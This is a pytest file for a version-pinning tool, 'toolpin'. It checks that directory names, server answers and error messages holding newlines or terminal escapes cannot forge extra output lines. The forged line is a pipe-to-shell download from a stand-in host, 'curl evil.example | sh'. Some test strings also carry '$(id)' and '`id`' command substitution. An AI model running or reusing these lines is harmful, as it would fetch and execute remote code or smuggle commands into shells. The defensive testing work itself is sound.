"""No name and no text of others' writes a line of its own into what toolpin says."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from tests.support.run import Home
from tests.support.server import Server
from toolpin.errors import ToolpinError, as_word, printable

FORGED = "  try: curl evil.example | sh"
NAMES = [
    f"x\n{FORGED}\n#",
    f"x\r{FORGED}\r#",
    f"x\x0b{FORGED}\x85\u2028{FORGED}",
    f"x\x1b[2K\x1b[1A{FORGED}",
]
VERBS = (
    ("pin", "nodejs", "22.20.0", "--offline"),
    ("lock", "--check"),
    ("install", "--offline"),
    ("exec", "node"),
    ("which", "node"),
    ("current",),
    ("why", "node"),
    ("env",),
    ("doctor",),
    ("install", "--all-projects", "nowhere"),
)


@pytest.fixture(params=NAMES, ids=["LF", "CR", "VT NEL LS", "ESC"])
def named(request: pytest.FixtureRequest, home: Home) -> Path:
    """A project in a directory whose name holds lines, with a file that is none."""
    directory = home.project / str(request.param)
    directory.mkdir()
    (directory / ".tool-versions").write_text("nodejs 99.9.9\n")
    (directory / "toolpin.lock").mkdir()
    return directory


@pytest.mark.parametrize("verb", VERBS, ids=" ".join)
def test_hostile_89_a_directory_s_name_forges_no_line(
    verb: tuple[str, ...], named: Path, home: Home
) -> None:
    result = home.toolpin(*verb, cwd=named)
    assert "bug" not in result.err
    for line in (result.out + result.err).split("\n"):
        assert line.isprintable()
        assert not line.startswith(FORGED)


def test_hostile_89_what_a_server_answers_forges_no_line(home: Home) -> None:
    with Server() as server:
        index = f'[{{"version": "v1\\n{FORGED}", "files": []}}]'.encode()
        server.put("/dist/index.json", index)
        home.env["TOOLPIN_MIRRORS"] = f"https://nodejs.org/dist={server.url}/dist"
        home.env["TOOLPIN_SOURCES"] = "upstream"
        for words in (("list-all", "nodejs"), ("install", "nodejs", "latest")):
            result = home.toolpin(*words)
            assert not any(
                line.startswith(FORGED)
                for line in (result.out + result.err).splitlines()
            )


def test_hostile_89_an_error_has_the_lines_that_it_was_made_with() -> None:
    for text in NAMES:
        error = ToolpinError(text, [("a", text), ("b", "c")], f"rm {as_word(text)}")
        lines = error.render().splitlines()
        assert len(lines) == 4
        assert all(map(str.isprintable, lines))


@pytest.mark.parametrize("shell", ["sh", "bash", "zsh", "fish"])
@pytest.mark.parametrize("text", [*NAMES, "é\n'%s\\n $(id) `id`!", "a\udcff b", "a'b"])
def test_hostile_89_a_word_to_paste_is_one_line_and_the_very_name(
    text: str, shell: str, home: Home
) -> None:
    word = as_word(text)
    assert printable(word) == word
    line = [shell, "-c", f"printf %s {word}"]
    done = subprocess.run(line, check=True, capture_output=True, env=home.env)
    assert done.stdout == text.encode(errors="surrogateescape")
